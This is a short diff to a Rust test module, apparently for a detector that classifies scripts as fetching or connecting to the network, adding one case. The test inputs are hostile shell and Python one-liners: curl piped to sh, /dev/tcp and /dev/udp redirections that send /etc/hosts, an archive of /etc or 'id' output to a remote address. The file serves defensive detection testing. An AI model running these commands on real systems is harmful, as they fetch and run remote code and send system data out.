@@ -226,6 +226,7 @@ mod tests {
         loud("/bin/sh", "curl -s http://192.0.2.1/x | sh", fetches);
         loud("/usr/bin/env bash", "x=curl\\n$x -s http://192.0.2.1/x | sh", fetches);
         loud("/bin/bash", "exec 3<>/dev/tcp/192.0.2.1/443\\ncat /etc/hosts >&3", connects);
+        loud("/bin/sh", "exec 3<>/dev/udp/127.0.0.1/9; id >&3", connects);
         loud("/bin/bash", "tar c /etc >/dev/udp/192.0.2.1/53", connects);
         loud("/bin/bash", "h=192.0.2.1\\nread -r l </dev/tcp/$h/80", connects);
         loud("/usr/bin/python3", "import os\\nos.system('curl -s http://192.0.2.1/x | sh')", fetches);
